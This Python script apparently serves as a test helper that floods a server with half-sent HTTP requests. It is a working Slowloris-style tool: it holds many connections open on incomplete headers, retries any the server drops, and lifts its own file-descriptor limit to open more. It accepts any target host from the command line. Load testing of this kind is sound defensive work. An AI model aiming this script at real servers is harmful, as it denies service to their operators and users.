"""A stranger that tries to hold many connections open, with half a request sent on each.

Told ``on`` and ``off`` on standard input. Connections that the server closes are tried again once a
second. Prints how many were tried, once all have been. Plain sockets, so that it takes little of
the machine itself.
"""

from __future__ import annotations

import resource
import selectors
import socket
import sys
import time
from typing import Final
from urllib.parse import urlsplit

HALF: Final = b"GET /jobs HTTP/1.1\r\nHost: localhost\r\nX: "
PAUSE: Final = 1.0
#: descriptors besides the connections
OTHERS: Final = 50


class Stranger:
    """Half-open connections, as many as it can get."""

    def __init__(self, address: tuple[str, int], count: int) -> None:
        """Connect to nobody yet."""
        self._address = address
        self._count = count
        self._lines: set[socket.socket] = set()
        self._tried = 0
        self._told = False
        self._next = 0.0
        self._is_on = False
        self._selector = selectors.DefaultSelector()
        self._selector.register(sys.stdin, selectors.EVENT_READ)

    def run(self) -> None:
        """Do as told until standard input ends."""
        while True:
            now = time.monotonic()
            if self._is_on and now >= self._next:
                self._next = now + PAUSE
                for _ in range(self._count - len(self._lines)):
                    self._open()
            for key, events in self._selector.select(PAUSE):
                if key.fileobj is not sys.stdin:
                    self._handle(key.fileobj, events)  # type: ignore[arg-type]
                elif (line := sys.stdin.readline()) == "":
                    return
                else:
                    self._turn(line.strip() == "on")

    def _turn(self, on: bool) -> None:
        self._is_on, self._next = on, 0.0
        for line in [] if on else list(self._lines):
            self._close(line)

    def _open(self) -> None:
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex(self._address)
        self._lines.add(line)
        self._selector.register(line, selectors.EVENT_WRITE)

    def _handle(self, line: socket.socket, events: int) -> None:
        if not events & selectors.EVENT_WRITE:  # the server has closed it
            self._close(line)
            return
        self._tried += 1
        try:
            line.send(HALF)
            self._selector.modify(line, selectors.EVENT_READ)
        except OSError:
            self._close(line)
        if self._tried >= self._count and not self._told:
            self._told = True
            print(self._tried, flush=True)

    def _close(self, line: socket.socket) -> None:
        self._lines.discard(line)
        self._selector.unregister(line)
        line.close()


def main() -> None:
    """Attack the server of the command line."""
    address, count = urlsplit(sys.argv[1]), int(sys.argv[-1])
    assert address.hostname is not None
    assert address.port is not None
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + OTHERS
    resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, max(wanted, hard)))
    Stranger((address.hostname, address.port), count).run()


if __name__ == "__main__":
    main()
